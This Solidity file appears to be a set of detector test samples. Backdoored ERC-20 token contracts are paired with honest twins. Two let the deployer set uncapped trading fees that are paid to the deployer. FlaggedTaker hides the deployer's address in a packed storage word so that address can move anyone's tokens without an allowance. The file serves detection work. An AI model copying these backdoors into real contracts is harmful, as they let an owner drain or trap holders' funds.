// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import { Erc20 } from "./base-token.sol";

// Several fields of one word that are set at once, and books that stand under two keys alone. Each beside an honest twin.

abstract contract Terms is Erc20 {
    struct Fields { uint16 buying; uint16 selling; address pair; bool open; }
    Fields internal fields;
    address internal setter = msg.sender;
    modifier onlySetter() { require(msg.sender == setter); _; }
    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = to == fields.pair ? value * fields.selling / 10_000 : from == fields.pair ? value * fields.buying / 10_000 : 0;
        if (fee > 0) super._transfer(from, setter, fee);
        super._transfer(from, to, value - fee);
    }
}

/// The fee is set beside the pair's address.
contract FeeBesidePair is Terms {
    function update(uint16 fee, address pair) external onlySetter { fields.selling = fee; fields.pair = pair; }
}

/// The other way round, and with a flag.
contract FeeBeforeFlag is Terms {
    function update(bool open, uint16 fee) external onlySetter { fields.open = open; fields.buying = fee; }
}

/// Honest: the pair and a flag stand beside the fees, which nobody sets.
contract PairBesideFlag is Terms {
    function update(address pair, bool open) external onlySetter { fields.pair = pair; fields.open = open; }
}

/// Honest: up to a limit.
contract CappedBesidePair is Terms {
    function update(uint16 fee, address pair) external onlySetter { require(fee <= 300); fields.selling = fee; fields.pair = pair; }
}

/// Balances and allowances by hand: an allowance stands under the hash of both, and nothing else.
abstract contract HashedBook {
    string public constant name = "Hashed";
    string public constant symbol = "HSH";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000 ether;
    uint256 internal word;
    event Transfer(address indexed from, address indexed to, uint256 value);
    constructor() {
        word = (uint256(uint160(msg.sender)) << 16) | 3;
        assembly { mstore(0, caller()) mstore(32, 0xb1) sstore(keccak256(0, 64), 1000000000000000000000000) }
    }
    function balanceOf(address who) public view returns (uint256 held) { assembly { mstore(0, who) mstore(32, 0xb1) held := sload(keccak256(0, 64)) } }
    function allowance(address who, address spender) public view returns (uint256 left) { assembly { mstore(0, who) mstore(32, spender) left := sload(keccak256(0, 64)) } }
    function approve(address spender, uint256 value) external returns (bool) {
        assembly { mstore(0, caller()) mstore(32, spender) sstore(keccak256(0, 64), value) }
        return true;
    }
    function transfer(address to, uint256 value) external returns (bool) { return move(msg.sender, to, value); }
    function move(address from, address to, uint256 value) internal returns (bool) {
        assembly {
            mstore(0, from) mstore(32, 0xb1)
            let place := keccak256(0, 64)
            let held := sload(place)
            if lt(held, value) { revert(0, 0) }
            sstore(place, sub(held, value))
            mstore(0, to)
            place := keccak256(0, 64)
            sstore(place, add(sload(place), value))
        }
        emit Transfer(from, to, value);
        return true;
    }
    function spend(address from, uint256 value) internal {
        assembly {
            mstore(0, from) mstore(32, caller())
            let place := keccak256(0, 64)
            let left := sload(place)
            if lt(left, value) { revert(0, 0) }
            sstore(place, sub(left, value))
        }
    }
}

/// One whom it keeps behind some flags takes without an allowance.
contract FlaggedTaker is HashedBook {
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (word >> 16 != uint256(uint160(msg.sender))) spend(from, value);
        return move(from, to, value);
    }
}

/// Honest: nobody does.
contract PlainHashedBook is HashedBook {
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        spend(from, value);
        return move(from, to, value);
    }
}
